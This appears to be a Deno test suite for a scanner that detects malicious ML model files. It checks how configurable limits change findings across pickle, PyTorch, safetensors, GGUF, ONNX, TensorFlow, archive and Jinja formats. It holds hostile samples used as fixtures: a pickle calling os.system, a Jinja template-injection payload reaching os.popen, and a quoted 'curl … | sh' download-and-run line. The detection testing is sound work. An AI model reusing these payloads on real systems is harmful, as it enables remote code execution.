// Lowered limits change what a scan reports, exactly where the limit is reached: through
// scanBytes (the options reach the scanners in their context), and through scan() (they
// cross into the sandboxed workers).
import assert from "node:assert/strict";
import { join } from "node:path";
import { scanBytes } from "../../engine/dispatch.ts";
import { scan } from "../../engine/scan.ts";
import type { Finding } from "../../core/types.ts";
import { renderLocation } from "../../report/location.ts";
import type { ScannerOptionsInput } from "../../scanners/options.ts";

/** Latin-1: one byte per character. */
const encode = (text: string) => Uint8Array.from(text, (c) => c.charCodeAt(0));
/** GLOBAL os.system at 0, MARK at 11, STRING at 12, TUPLE at 39, REDUCE at 40, STOP at 41. */
const MALICIOUS = encode("cos\nsystem\n(S'echo modelaudit-fixture'\ntR.");
const fixture = (path: string) => Deno.readFile(new URL(`../../fixtures/${path}`, import.meta.url));

const brief = (findings: Pick<Finding, "rule" | "severity" | "location">[]) =>
  findings.map((f) => `${f.rule} ${f.severity} ${renderLocation(f.location)}`);

Deno.test("pickle.maxOpcodes: MA110 at the first opcode past it; the import before it is still reported", async () => {
  assert.deepEqual(brief((await scanBytes(MALICIOUS, "m.pkl")).findings), [
    "MA100 critical m.pkl (pos 0)",
    "MA101 critical m.pkl (pos 40)",
  ]);
  const { findings } = await scanBytes(MALICIOUS, "m.pkl", { scannerOptions: { pickle: { maxOpcodes: 3 } } });
  assert.deepEqual(brief(findings), ["MA100 critical m.pkl (pos 0)", "MA110 warning m.pkl (pos 39)"]);
  assert.deepEqual(findings[1].details, {
    limit: "MAX_PICKLE_OPCODES",
    option: "pickle.maxOpcodes",
    max: 3,
    position: 39,
  });
});

Deno.test("pickle.maxMarkDepth: MA110 at the MARK past it", async () => {
  const { findings } = await scanBytes(MALICIOUS, "m.pkl", {
    scannerOptions: { pickle: { maxMarkDepth: 0 } },
  });
  assert.deepEqual(brief(findings), ["MA100 critical m.pkl (pos 0)", "MA110 warning m.pkl (pos 11)"]);
  assert.deepEqual(findings[1].details, {
    limit: "MAX_MARK_DEPTH",
    option: "pickle.maxMarkDepth",
    max: 0,
    position: 11,
  });
});

Deno.test("pickle.maxEmbeddedChars, maxDecodeDepth and maxCodeScanChars: MA108 only while the payload is in reach", async () => {
  // exec(b64decode("aW1w...")): a 64-character base64 constant at 35 holding 47 characters of source, whose
  // os.system(...) call ends at its 46th.
  const pkl = await fixture("pickle/malicious/base64_python_source_exec_p2.pkl");
  const embedded = async (pickle: ScannerOptionsInput["pickle"]) =>
    brief((await scanBytes(pkl, "m.pkl", { scannerOptions: { pickle } })).findings)
      .filter((line) => line.startsWith("MA108"));
  const found = ["MA108 critical m.pkl (pos 35)"];
  assert.deepEqual(await embedded({}), found);
  assert.deepEqual(await embedded({ maxEmbeddedChars: 64 }), found);
  assert.deepEqual(await embedded({ maxEmbeddedChars: 63 }), []);
  assert.deepEqual(await embedded({ maxDecodeDepth: 1 }), found);
  assert.deepEqual(await embedded({ maxDecodeDepth: 0 }), []);
  assert.deepEqual(await embedded({ maxCodeScanChars: 46 }), found);
  assert.deepEqual(await embedded({ maxCodeScanChars: 45 }), []);
});

Deno.test("pytorch.maxTorchScriptSourceBytes: a code file longer is MA006, and a call past it is not read", async () => {
  const pt = await fixture("pytorch/malicious/torchscript_os_system.pt");
  const code = "m.pt:archive/code/__torch__/";
  const at = async (maxTorchScriptSourceBytes: number) =>
    brief(
      (await scanBytes(pt, "m.pt", { scannerOptions: { pytorch: { maxTorchScriptSourceBytes } } })).findings,
    );
  // modelaudit_fixture_models.py is 587 bytes with os.system at 536; torch/nn/modules/container.py is 717.
  assert.deepEqual(await at(587), [
    `MA302 critical ${code}modelaudit_fixture_models.py (pos 536)`,
    `MA006 warning ${code}torch/nn/modules/container.py`,
  ]);
  assert.deepEqual(await at(536), [
    `MA006 warning ${code}modelaudit_fixture_models.py`,
    `MA006 warning ${code}torch/nn/modules/container.py`,
  ]);
});

Deno.test("safetensors.maxScannedGaps: a gap past it is reported (MA325) but its pickle is not scanned", async () => {
  // One 31-byte gap at 125 holding os.system's pickle.
  const st = await fixture("safetensors/malicious/gap_hides_pickle.safetensors");
  const at = async (maxScannedGaps?: number) =>
    brief(
      (await scanBytes(st, "m.safetensors", { scannerOptions: { safetensors: { maxScannedGaps } } }))
        .findings,
    );
  const gap = "MA325 warning m.safetensors (pos 108, key $.b.data_offsets)";
  assert.deepEqual(await at(1), [
    gap,
    "MA100 critical m.safetensors:<gap@125> (pos 2)",
    "MA101 critical m.safetensors:<gap@125> (pos 29)",
  ]);
  assert.deepEqual(await at(0), [gap]);
});

Deno.test("safetensors.maxHeaderValues: MA330 at the first value past it, and the header is not judged", async () => {
  // 13 values: the object, w's object, "F32", the shape and its 6 zeros, the offsets and their 2.
  const json = '{"w":{"dtype":"F32","shape":[0,0,0,0,0,0],"data_offsets":[0,0]}}';
  const st = new Uint8Array(8 + json.length);
  new DataView(st.buffer).setBigUint64(0, BigInt(json.length), true);
  st.set(encode(json), 8);
  const at = async (maxHeaderValues: number) =>
    (await scanBytes(st, "m.safetensors", { scannerOptions: { safetensors: { maxHeaderValues } } })).findings;
  assert.deepEqual(await at(13), []);
  const findings = await at(12);
  assert.deepEqual(brief(findings), [`MA330 warning m.safetensors (pos ${8 + json.lastIndexOf("0")})`]);
  assert.deepEqual(findings[0].details, {
    limit: 12,
    option: "safetensors.maxHeaderValues",
    headerLength: json.length,
    position: 8 + json.lastIndexOf("0"),
  });
});

Deno.test("strings.maxCheckedChars: a sign of a second stage past it in a metadata value is not searched", async () => {
  // The note "curl -s http://203.0.113.7/x.sh | sh": the raw IP URL ends at its 26th character, the pipe at its 36th.
  const st = await fixture("safetensors/malicious/metadata_shell_pipe.safetensors");
  const indicators = async (maxCheckedChars: number) =>
    (await scanBytes(st, "m.safetensors", { scannerOptions: { strings: { maxCheckedChars } } })).findings
      .map((f) => `${f.rule} ${f.details.indicator}`);
  assert.deepEqual(await indicators(36), ["MA011 shell-pipe", "MA011 raw-ip-url"]);
  assert.deepEqual(await indicators(35), ["MA011 raw-ip-url"]);
  assert.deepEqual(await indicators(26), ["MA011 raw-ip-url"]);
  assert.deepEqual(await indicators(25), []);
});

Deno.test("pickle.maxCodeScanChars bounds the source search in a safetensors metadata value too (MA012)", async () => {
  const st = await fixture("safetensors/malicious/metadata_python_source.safetensors");
  const rules = async (maxCodeScanChars?: number) =>
    (await scanBytes(st, "m.safetensors", { scannerOptions: { pickle: { maxCodeScanChars } } })).findings
      .map((f) => f.rule);
  assert.deepEqual(await rules(), ["MA012"]);
  assert.deepEqual(await rules(0), []);
});

Deno.test("jinja.maxTemplateBytes and maxConfigBytes: a template file larger is MA503, unread; at the limit it is analysed", async () => {
  const payload = "{{ lipsum.__globals__.os.popen('echo pwned').read() }}";
  const jinja = encode(payload);
  const template = async (maxTemplateBytes: number) =>
    (await scanBytes(jinja, "chat_template.jinja", { scannerOptions: { jinja: { maxTemplateBytes } } }))
      .findings;
  assert.deepEqual((await template(jinja.length)).map((f) => f.rule), ["MA502", "MA500", "MA501", "MA501"]);
  const over = await template(jinja.length - 1);
  assert.deepEqual(brief(over), ["MA503 warning chat_template.jinja"]);
  assert.deepEqual(over[0].details, {
    size: jinja.length,
    limit: jinja.length - 1,
    option: "jinja.maxTemplateBytes",
  });

  const config = encode(JSON.stringify({ chat_template: payload }));
  const json = async (maxConfigBytes: number) =>
    (await scanBytes(config, "tokenizer_config.json", { scannerOptions: { jinja: { maxConfigBytes } } }))
      .findings;
  assert.deepEqual((await json(config.length)).map((f) => f.rule), ["MA502", "MA500", "MA501", "MA501"]);
  const unread = await json(config.length - 1);
  assert.deepEqual(brief(unread), ["MA503 warning tokenizer_config.json"]);
  assert.deepEqual(unread[0].details, {
    size: config.length,
    limit: config.length - 1,
    option: "jinja.maxConfigBytes",
  });
});

Deno.test("jinja.maxConfigBytes: a tokenizer_config.json padded past the default is MA503, not passed over unseen", async () => {
  const payload = "{{ lipsum.__globals__.os.popen('echo pwned').read() }}";
  const head = encode(JSON.stringify({ chat_template: payload }).slice(0, -1));
  const padded = new Uint8Array(64 * 1024 * 1024 + 1).fill(0x20);
  padded.set(head);
  padded[padded.length - 1] = 0x7d; // "}"
  const scanned = async (maxConfigBytes?: number) => {
    const outcome = await scanBytes(padded, "tokenizer_config.json", {
      scannerOptions: { jinja: { maxConfigBytes } },
    });
    return [outcome.format, outcome.findings.map((f) => f.rule)];
  };
  assert.deepEqual(await scanned(), ["chat-template-json", ["MA503"]]);
  assert.deepEqual(await scanned(padded.length), ["chat-template-json", [
    "MA502",
    "MA500",
    "MA501",
    "MA501",
  ]]);
});

Deno.test("gguf.maxStringBytes: a metadata string longer is stepped over unread (MA348), so nothing in it is found", async () => {
  // tokenizer.chat_template: 259 bytes at 6522, reaching os through cycler.
  const gguf = await fixture("gguf/malicious/template_globals_os.gguf");
  const at = async (maxStringBytes: number) =>
    (await scanBytes(gguf, "m.gguf", { scannerOptions: { gguf: { maxStringBytes } } })).findings;
  const template = 'm.gguf (pos 6522, key $["tokenizer.chat_template"])';
  assert.deepEqual((await at(259)).map((f) => f.rule), ["MA502", "MA500", "MA500", "MA501", "MA501"]);
  const over = await at(258);
  assert.deepEqual(brief(over), [`MA348 info ${template}`]);
  assert.deepEqual(over[0].details, {
    length: 259,
    limit: 258,
    option: "gguf.maxStringBytes",
    position: 6522,
  });
  // Read, but longer than jinja.maxTemplateBytes: not analysed as a template.
  const unanalysed =
    (await scanBytes(gguf, "m.gguf", { scannerOptions: { jinja: { maxTemplateBytes: 258 } } }))
      .findings;
  assert.deepEqual(brief(unanalysed), [`MA348 info ${template}`]);
  assert.equal(unanalysed[0].details.option, "jinja.maxTemplateBytes");
});

Deno.test("gguf.maxLegacyTokenBytes: a longer vocabulary token of a legacy GGML file is MA347, unread", async () => {
  // A ggjt file of four tokens, of 5, 0, 4 and 8 bytes.
  const ggjt = await fixture("gguf/benign/llama_ggjt_v3.bin");
  const at = async (maxLegacyTokenBytes: number) =>
    brief((await scanBytes(ggjt, "m.bin", { scannerOptions: { gguf: { maxLegacyTokenBytes } } })).findings);
  assert.deepEqual(await at(8), ["MA346 info m.bin (pos 0)"]);
  assert.deepEqual(await at(7), ["MA347 warning m.bin (pos 72)", "MA346 info m.bin (pos 0)"]);
});

Deno.test("onnx.maxStrings, maxStringBytes and maxFields: what is past them is not searched, and MA466 says so", async () => {
  // A node's doc_string at 41: "curl -s http://203.0.113.7/stage.sh | sh" (the IP's URL ends at its 26th byte).
  const onnx = await fixture("onnx/malicious/metadata_shell_pipe.onnx");
  const at = async (options: Record<string, number>) =>
    (await scanBytes(onnx, "m.onnx", { scannerOptions: { onnx: options } })).findings.map((f) =>
      `${f.rule} ${f.details.indicator ?? f.details.option}`
    );
  assert.deepEqual(await at({ maxStrings: 1, maxStringBytes: 40 }), ["MA011 shell-pipe", "MA011 raw-ip-url"]);
  assert.deepEqual(await at({ maxStringBytes: 39 }), ["MA011 raw-ip-url"]);
  assert.deepEqual(await at({ maxStringBytes: 25 }), []);
  assert.deepEqual(await at({ maxStrings: 0 }), ["MA466 onnx.maxStrings"]);
  assert.deepEqual(await at({ maxFields: 5 }), ["MA466 onnx.maxFields"]);
});

Deno.test("tensorflow.maxNodes and maxTextBytes: MA435 or MA434 naming the option exactly past the limit", async () => {
  // A frozen graph of 12 nodes, the last a PyFuncStateless.
  const frozen = await fixture("tensorflow/malicious/pyfunc_stateless_frozen.pb");
  const nodes = async (maxNodes: number) =>
    (await scanBytes(frozen, "frozen.pb", { scannerOptions: { tensorflow: { maxNodes } } })).findings;
  assert.deepEqual((await nodes(12)).map((f) => f.rule), ["MA430"]);
  const stopped = await nodes(11);
  assert.deepEqual(brief(stopped), ["MA435 info frozen.pb"]);
  assert.deepEqual(stopped[0].details, { limit: "more than 11 nodes", option: "tensorflow.maxNodes" });

  const text = await fixture("tensorflow/malicious/pyfunc_text/saved_model.pbtxt");
  const parsed = async (maxTextBytes: number) =>
    (await scanBytes(text, "saved_model.pbtxt", { scannerOptions: { tensorflow: { maxTextBytes } } }))
      .findings
      .map((f) => f.rule);
  assert.deepEqual(await parsed(text.length), ["MA430"]);
  assert.deepEqual(await parsed(text.length - 1), ["MA434"]);
});

Deno.test("tar.maxEntries: MA210 at the header of the first entry past it, which is not scanned", async () => {
  // README.txt at 0, payload.pkl (os.system) at 1024.
  const tar = await fixture("tar/malicious/payload.tar");
  assert.deepEqual(brief((await scanBytes(tar, "payload.tar")).findings), [
    "MA100 critical payload.tar:payload.pkl (pos 2)",
    "MA101 critical payload.tar:payload.pkl (pos 29)",
  ]);
  const { findings } = await scanBytes(tar, "payload.tar", { scannerOptions: { tar: { maxEntries: 1 } } });
  assert.deepEqual(brief(findings), ["MA210 warning payload.tar (pos 1024)"]);
  assert.deepEqual(findings[0].details, {
    limit: "MAX_TAR_ENTRIES",
    option: "tar.maxEntries",
    max: 1,
    position: 1024,
  });
  assert.equal(findings[0].message, "More than 1 tar entries; the rest were not inspected");
});

Deno.test("zip.maxEntries and zip.maxDirectoryBytes: MA210 for a listing cut short or a directory not read", async () => {
  const zip = await fixture("zip/benign/stored.zip"); // two stored members, a 110-byte central directory
  assert.deepEqual((await scanBytes(zip, "stored.zip")).findings, []);
  const entries = await scanBytes(zip, "stored.zip", { scannerOptions: { zip: { maxEntries: 1 } } });
  assert.deepEqual(brief(entries.findings), ["MA210 warning stored.zip"]);
  assert.deepEqual(entries.findings[0].details, {
    limit: "MAX_ZIP_ENTRIES",
    option: "zip.maxEntries",
    max: 1,
  });
  const directory = await scanBytes(zip, "stored.zip", {
    scannerOptions: { zip: { maxDirectoryBytes: 10 } },
  });
  assert.deepEqual(brief(directory.findings), ["MA210 warning stored.zip", "MA209 warning stored.zip"]);
  assert.deepEqual(directory.findings[0].details, {
    limit: "MAX_DIRECTORY_BYTES",
    option: "zip.maxDirectoryBytes",
    max: 10,
    bytes: 110,
  });
});

Deno.test("zip.maxStoredCrcBytes: a stored member over it is scanned without its CRC-32 checked", async () => {
  const zip = await fixture("zip/malicious/crc_mismatch.zip");
  const rules = async (maxStoredCrcBytes?: number) =>
    (await scanBytes(zip, "crc_mismatch.zip", { scannerOptions: { zip: { maxStoredCrcBytes } } })).findings
      .map((f) => f.rule);
  assert.deepEqual(await rules(), ["MA202", "MA100", "MA101"]);
  assert.deepEqual(await rules(0), ["MA100", "MA101"]);
});

Deno.test("numpy.maxHeaderBytes: a header longer than it is MA310 at the header length", async () => {
  const npy = await fixture("numpy/benign/float32_2d.npy");
  assert.deepEqual((await scanBytes(npy, "a.npy")).findings, []);
  const { findings } = await scanBytes(npy, "a.npy", { scannerOptions: { numpy: { maxHeaderBytes: 64 } } });
  assert.deepEqual(brief(findings), ["MA310 warning a.npy (pos 8)"]);
  assert.match(findings[0].message, /the header is 118 bytes long, more than the 64 inspected/);
  assert.deepEqual(findings[0].details, { position: 8, option: "numpy.maxHeaderBytes" });
});

Deno.test("lzma.maxDecodedBytes: only that much is decoded; what lies past it is MA212", async () => {
  const lzma = await fixture("compressed/malicious/os_system.pkl.lzma");
  const { findings } = await scanBytes(lzma, "os_system.pkl.lzma", {
    scannerOptions: { lzma: { maxDecodedBytes: 20 } },
  });
  assert.deepEqual(brief(findings), [
    "MA100 critical os_system.pkl.lzma:os_system.pkl (pos 2)",
    "MA105 warning os_system.pkl.lzma:os_system.pkl (pos 13)",
    "MA212 warning os_system.pkl.lzma",
  ]);
  assert.match(findings[2].message, /^Only the first 20 decoded bytes were inspected/);
});

Deno.test("lzma.maxDecodedBytes bounds a zip's LZMA member too: decoded short of its declared size, MA209", async () => {
  const zip = await fixture("zip/malicious/lzma_member.zip");
  const { findings } = await scanBytes(zip, "lzma_member.zip", {
    scannerOptions: { lzma: { maxDecodedBytes: 20 } },
  });
  assert.deepEqual(brief(findings), [
    "MA100 critical lzma_member.zip:payload.pkl (pos 2)",
    "MA105 warning lzma_member.zip:payload.pkl (pos 13)",
    "MA209 warning lzma_member.zip:payload.pkl",
  ]);
  assert.deepEqual(findings[2].details, { declaredSize: 31, decodedSize: 20, exact: true });
});

Deno.test("limits.maxFindingsPerFile: MA008 where the first finding past it would be", async () => {
  const { findings } = await scanBytes(MALICIOUS, "m.pkl", { limits: { maxFindingsPerFile: 1 } });
  assert.deepEqual(brief(findings), ["MA100 critical m.pkl (pos 0)", "MA008 info m.pkl (pos 40)"]);
  assert.deepEqual(findings[1].details, {
    limit: "MAX_FINDINGS_PER_FILE",
    option: "engine.maxFindingsPerFile",
    max: 1,
  });
});

Deno.test("limits.minBombDecodedBytes: a 2 MiB gzip of zeros is judged a bomb only when lowered below it", async () => {
  const zeros = new Blob([new Uint8Array(2 << 20)]).stream().pipeThrough(new CompressionStream("gzip"));
  const gzip = new Uint8Array(await new Response(zeros).arrayBuffer());
  assert.deepEqual((await scanBytes(gzip, "zeros.gz")).findings, []);
  const { findings } = await scanBytes(gzip, "zeros.gz", { limits: { minBombDecodedBytes: 1 << 20 } });
  assert.deepEqual(findings.map((f) => `${f.rule} ${renderLocation(f.location)}`), ["MA206 zeros.gz:zeros"]);
  assert.equal(findings[0].details.decodedSize, 2 << 20);
});

Deno.test("limits.maxContentEntries: a file's inventory of recognised members stops there; they are all scanned", async () => {
  const gzip = async (data: Uint8Array) =>
    new Uint8Array(
      await new Response(new Blob([data.slice()]).stream().pipeThrough(new CompressionStream("gzip")))
        .arrayBuffer(),
    );
  const twice = await gzip(await gzip(MALICIOUS));
  const at = async (maxContentEntries?: number) => {
    const outcome = await scanBytes(twice, "m.pkl.gz.gz", { limits: { maxContentEntries } });
    return [
      outcome.contents?.map((entry) => `${entry.format} ${entry.members.join(":")}`),
      brief(outcome.findings),
    ];
  };
  const findings = [
    "MA100 critical m.pkl.gz.gz:m.pkl.gz:m.pkl (pos 0)",
    "MA101 critical m.pkl.gz.gz:m.pkl.gz:m.pkl (pos 40)",
  ];
  assert.deepEqual(await at(), [["gzip m.pkl.gz", "pickle m.pkl.gz:m.pkl"], findings]);
  assert.deepEqual(await at(1), [["gzip m.pkl.gz"], findings]);
});

Deno.test("a mistyped option fails scanBytes before anything is scanned", async () => {
  await assert.rejects(
    () => scanBytes(MALICIOUS, "m.pkl", { scannerOptions: { pickle: { maxOpcodes: -1 } } }),
    /The value of pickle\.maxOpcodes must be a whole number from 0 up, not -1$/,
  );
  await assert.rejects(
    () => scanBytes(MALICIOUS, "m.pkl", { limits: { maxFindingsPerFile: -1 } }),
    /The value of engine\.maxFindingsPerFile must be a whole number from 0 up, not -1$/,
  );
  // An engine limit set to undefined is unset: not a limit of no findings at all.
  const { findings } = await scanBytes(MALICIOUS, "m.pkl", { limits: { maxFindingsPerFile: undefined } });
  assert.deepEqual(findings.map((f) => f.rule), ["MA100", "MA101"]);
});

for (const sandbox of [true, false]) {
  Deno.test(`scan (sandbox ${sandbox}) hands the scanner options to every file's scan`, async () => {
    const dir = await Deno.makeTempDir();
    try {
      await Deno.writeFile(join(dir, "evil.pkl"), MALICIOUS);
      const result = await scan([dir], { sandbox, scannerOptions: { pickle: { maxOpcodes: 3 } } });
      assert.deepEqual(
        result.files.flatMap((f) =>
          f.findings.map((x) => `${x.rule} ${renderLocation(x.location).split("/").pop()}`)
        ),
        [
          "MA100 evil.pkl (pos 0)",
          "MA110 evil.pkl (pos 39)",
        ],
      );
      await assert.rejects(
        () => scan([dir], { sandbox, scannerOptions: { tar: { maxEntries: 0.5 } } }),
        RangeError,
      );
      await assert.rejects(() => scan([dir], { sandbox, limits: { maxDepth: -2 } }), RangeError);
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  });
}
